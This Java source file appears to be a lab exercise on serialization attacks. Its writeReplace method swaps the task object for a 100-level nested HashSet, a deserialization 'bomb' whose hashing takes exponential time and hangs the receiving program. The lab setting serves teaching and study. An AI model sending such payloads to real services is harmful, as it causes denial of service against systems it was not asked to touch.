package marshal.lab2;

import java.util.HashSet;
import java.util.Set;
import marshal.kit.contract.Task;
import marshal.kit.contract.Todo;

final class MultiplyTask implements TaskObject {

    private static final long serialVersionUID = 1;

    MultiplyTask(Task.Multiply task) {
        if (task.a().length != 2 || task.b().length != 3) {
            throw new Todo("lab2.3", "a bomb is enough");
        }
    }

    private Object writeReplace() {
        Set<Object> root = new HashSet<>();
        Set<Object> left = root;
        Set<Object> right = new HashSet<>();
        for (int i = 0; i < 100; i++) {
            Set<Object> one = new HashSet<>();
            Set<Object> two = new HashSet<>();
            one.add("bomb");
            left.add(one);
            left.add(two);
            right.add(one);
            right.add(two);
            left = one;
            right = two;
        }
        return root;
    }

    @Override
    public Task.Multiply task() {
        return null;
    }
}
